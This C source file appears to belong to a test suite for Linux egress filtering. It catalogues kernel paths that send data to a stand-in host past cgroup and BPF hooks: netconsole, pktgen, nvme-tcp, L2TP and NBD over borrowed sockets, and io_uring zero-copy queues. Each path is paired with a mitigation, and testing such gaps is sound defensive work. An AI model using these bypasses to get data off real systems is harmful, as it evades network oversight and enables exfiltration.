// SPDX-License-Identifier: GPL-2.0-only
/* What the kernel sends on a program's behalf: by no socket at all, by one of its own, or by one that another
 * program has opened and that this one has given to the kernel to work with. */
#include "trick.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/nbd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/if_pppox.h>

#define TEXT(x) #x
#define NUMBER(x) TEXT(x)

/* ---- by no socket ---- */

/* The kernel's messages, as datagrams to wherever a file says. */
static const char *netconsole(void)
{
	if (!getenv("IN_VM"))
		return "it would send this host's own messages: only in a virtual machine";
	if (system("mountpoint -q /sys/kernel/config || mount -t configfs none /sys/kernel/config && "
		   "cd /sys/kernel/config/netconsole && mkdir bypass && cd bypass && echo " IFACE
		   " >dev_name && echo " HOST4 " >local_ip && echo " BAD4 " >remote_ip && "
		   "echo " NUMBER(BAD_PORT) " >remote_port && echo 02:00:00:00:51:02 >remote_mac && echo 1 "
					    ">enabled") != 0)
		return "no netconsole";
	(void)!system("echo '<0>" MARK "' >/dev/kmsg; sleep 0.1; cd /sys/kernel/config/netconsole && "
		      "echo 0 >bypass/enabled; rmdir bypass");
	return NULL;
}

/* A device for measuring networks. */
static const char *pktgen(void)
{
	if (system("cd /proc/net/pktgen 2>/dev/null && echo rem_device_all >kpktgend_0 && echo "
		   "add_device " IFACE " >kpktgend_0") != 0)
		return "no pktgen";
	(void)!system("cd /proc/net/pktgen && for set in 'count 3' 'pkt_size 60' 'dst " BAD4
		      "' 'src_min " HOST4 "' 'src_max " HOST4
		      "' 'dst_mac 02:00:00:00:51:02' 'udp_dst_min " NUMBER(BAD_PORT) "' 'udp_dst_max " NUMBER(
			      BAD_PORT) "'; do echo \"$set\" >" IFACE
					"; done; echo start >pgctrl; echo rem_device_all >kpktgend_0");
	return NULL;
}

/* ---- by sockets of the kernel's ---- */

/* A disk at the other end. */
static const char *nvme(void)
{
	static const char text[] = "transport=tcp,traddr=" BAD4
				   ",trsvcid=" NUMBER(BAD_PORT) ",nqn=nqn.2014-08.org.nvmexpress.discovery";
	int fd = open("/dev/nvme-fabrics", O_RDWR | O_CLOEXEC), ended = 0;
	pid_t pid;

	if (fd < 0)
		return missing("/dev/nvme-fabrics");
	pid = fork();
	if (!pid)
		_exit(write(fd, text, sizeof(text) - 1) < 0);
	for (int i = 0; i < 100 && !ended; i++) {
		nap(10);
		ended = waitpid(pid, NULL, WNOHANG) == pid;
	}
	kill(pid, SIGKILL); /* where it is still waiting for an answer */
	return NULL;
}

/* ---- by a connection of another program's ---- */

static const char *user_l2tp(void)
{
	return user_child("use-l2tp", user_up(BAD4, SOCK_DGRAM, 0));
}

static const char *user_nbd(void)
{
	return user_child("use-nbd", user_up(BAD4, SOCK_STREAM, 0));
}

/* A tunnel for PPP above a datagram socket: whoever has that needs nothing else. */
static const char *use_l2tp(void)
{
	struct sockaddr_pppol2tp to = {.sa_family = AF_PPPOX,
				       .sa_protocol = PX_PROTO_OL2TP,
				       .pppol2tp = {.fd = USED, .s_tunnel = 7, .d_tunnel = 7}};
	int tunnel = socket(AF_PPPOX, SOCK_DGRAM | SOCK_CLOEXEC, PX_PROTO_OL2TP),
	    session = socket(AF_PPPOX, SOCK_DGRAM | SOCK_CLOEXEC, PX_PROTO_OL2TP);

	if (tunnel < 0 || session < 0)
		return missing("PPP over L2TP");
	if (connect(tunnel, (struct sockaddr *)&to, sizeof(to)))
		return missing("L2TP tunnel");
	to.pppol2tp.s_session = to.pppol2tp.d_session = 9;
	if (connect(session, (struct sockaddr *)&to, sizeof(to)))
		return missing("L2TP session");
	(void)send(session, MARK, MARK_LEN, MSG_DONTWAIT);
	nap(20);
	return NULL;
}

/* A block device that writes by a connection. The other end answers nonsense, by which it ends. */
static const char *use_nbd(void)
{
	static char block[4096] = MARK;
	int nbd = open("/dev/nbd0", O_RDWR | O_CLOEXEC);
	pid_t serves, writes;

	if (nbd < 0)
		return missing("/dev/nbd0");
	if (ioctl(nbd, NBD_SET_BLKSIZE, 4096UL) || ioctl(nbd, NBD_SET_SIZE_BLOCKS, 16UL) ||
	    ioctl(nbd, NBD_SET_TIMEOUT, 1UL) || ioctl(nbd, NBD_SET_SOCK, (unsigned long)USED))
		return missing("block device");
	serves = fork();
	if (!serves)
		_exit(ioctl(nbd, NBD_DO_IT) != 0);
	nap(100);
	writes = fork();
	if (!writes) {
		int fd = open("/dev/nbd0", O_WRONLY | O_SYNC | O_CLOEXEC);

		_exit(write(fd, block, sizeof(block)) != sizeof(block));
	}
	nap(300);
	ioctl(nbd, NBD_DISCONNECT);
	ioctl(nbd, NBD_CLEAR_SOCK);
	waitpid(writes, NULL, 0);
	kill(serves, SIGKILL);
	waitpid(serves, NULL, 0);
	return NULL;
}

/* ---- into memory that the card writes to ---- */

/* newer than the headers of some systems; Linux 6.15 */
#define RING_REGISTER_QUEUE 32
struct ring_queue {
	uint32_t interface, queue, entries, flags;
	uint64_t area, region, unused[4];
	uint32_t id, none;
	uint64_t reserved[3];
};
struct ring_area {
	uint64_t addr, len, token;
	uint32_t flags, dmabuf;
	uint64_t reserved[2];
};
struct ring_region {
	uint64_t addr, size;
	uint32_t flags, id;
	uint64_t offset, reserved[4];
};

/* What a connection receives, taken from the card's own queue. */
static const char *zero_copy_receive(void)
{
	/* one issuer, deferred work, wide completions */
	struct io_uring_params p = {.flags = 1u << 12 | 1u << 13 | 1u << 11};
	uint8_t *memory = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	struct ring_area area = {.addr = (uintptr_t)memory, .len = 1 << 19};
	struct ring_region region = {.addr = (uintptr_t)memory + (1 << 19), .size = 8192, .flags = 1};
	struct ring_queue queue = {.interface = if_nametoindex(IFACE),
				   .entries = 64,
				   .area = (uintptr_t)&area,
				   .region = (uintptr_t)&region};
	int fd = (int)syscall(SYS_io_uring_setup, 8, &p);

	if (fd < 0 || memory == MAP_FAILED)
		return "no io_uring of this kind";
	if (!syscall(SYS_io_uring_register, fd, RING_REGISTER_QUEUE, &queue, 1))
		return "there is nothing here that would send to such a queue";
	return errno == EPERM ? "it needs a card whose queues can be given away"
			      : missing("a queue of the card's");
}

#define BELOW "no cgroup hook sees it; drop CAP_NET_ADMIN"
#define GIVEN "the kernel sends by a socket that it was given; "

const struct trick tricks_errand[] = {
	{"netconsole", netconsole, 0,
	 "no cgroup hook sees it; do not run it as root, or with /sys read-only"},
	{"pktgen", pktgen, 0, BELOW},
	{"nvme-tcp", nvme, 0, NULL},
	{"io_uring-zcrx", zero_copy_receive, 0, NULL},
	{"user-l2tp", user_l2tp, TRICK_USER | TRICK_OTHER, GIVEN "enable BPF LSM or tracing of functions"},
	{"user-nbd", user_nbd, TRICK_USER, GIVEN "drop CAP_SYS_ADMIN"},
	{"use-l2tp", use_l2tp, TRICK_HERE, NULL},
	{"use-nbd", use_nbd, TRICK_HERE, NULL},
	{NULL, NULL, 0, NULL},
};
